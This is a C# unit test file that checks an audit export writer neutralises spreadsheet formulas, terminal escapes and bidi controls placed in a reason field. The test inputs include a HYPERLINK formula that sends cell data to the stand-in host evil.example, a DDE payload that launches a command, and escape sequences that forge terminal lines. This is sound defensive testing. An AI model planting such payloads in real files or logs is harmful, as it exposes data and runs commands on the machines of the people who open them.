using Ingestion.Audit.Export;

namespace Ingestion.UnitTests.Audit;

/// <summary>
/// SECURITY-REVIEW M8: what a site or an operator typed reaches an inspector's terminal and spreadsheet as text, never
/// as a terminal escape or a live formula.
/// </summary>
public sealed class ReconstructionOutputTests
{
    private static readonly Guid Document = Guid.Parse("3c0a09f1-b143-5eab-bda4-8af2d033cbb2");
    private static readonly Guid Packet = Guid.Parse("64a0df65-3aad-47fb-868b-9fdb31ad8c84");

    [TestCase("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")]
    [TestCase("+1+cmd|' /C calc'!A0")]
    [TestCase("-2+3")]
    [TestCase("@SUM(1,1)")]
    [TestCase("\t=1+1")]
    public void A_reason_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string reason)
    {
        var csv = Write("csv", reason);

        var row = csv.Split('\n')[1];
        Assert.That(row, Does.Contain("'" + reason.Split(',')[0].Replace("\"", "\"\"", StringComparison.Ordinal)));
        Assert.That(row.Split(',').Select(c => c.TrimStart('"')), Has.None.Match("^[=+@\\-\\t]"), "no cell starts a formula");
    }

    [Test]
    public void An_ordinary_reason_is_written_unchanged()
    {
        var csv = Write("csv", "Checked against the original");

        Assert.That(csv.Split('\n')[1], Does.Contain(",Checked against the original,"));
    }

    [Test]
    public void Terminal_escapes_and_bidi_controls_in_a_reason_are_shown_not_obeyed()
    {
        var table = Write("table", "ok\u001b]0;owned\u0007\u001b[2J\u202Egnp.exe\r\nforged line");

        Assert.That(table, Does.Contain("ok\\u{001B}]0;owned\\u{0007}\\u{001B}[2J\\u{202E}gnp.exe\\u{000D}\\u{000A}forged line"));
        Assert.That(table.Where(c => char.IsControl(c) && c is not '\n' and not '\r'), Is.Empty);
        Assert.That(table.Split('\n').Count(l => l.Contains("forged line", StringComparison.Ordinal)), Is.EqualTo(1), "the reason stays on its own row");
    }

    private static string Write(string format, string reason)
    {
        var entry = new TimelineEntry
        {
            Seq = 7,
            OccurredAt = "2026-12-01T22:42:27.662950Z",
            Action = "REVIEW",
            FromState = "MANUAL_REVIEW",
            ToState = "ARCHIVED",
            Outcome = "APPROVED",
            Reason = reason,
            Attempt = 1,
            Actor = "reviewer:jdoe",
            CorrelationId = Document,
            PacketId = Packet,
            SiteId = "US-BOS-001",
            DocumentSha256 = new string('a', 64),
        };
        using var output = new StringWriter { NewLine = "\n" };
        ReconstructionWriter.Write(Reconstruction.Build([entry]), format, output);
        return output.ToString();
    }
}
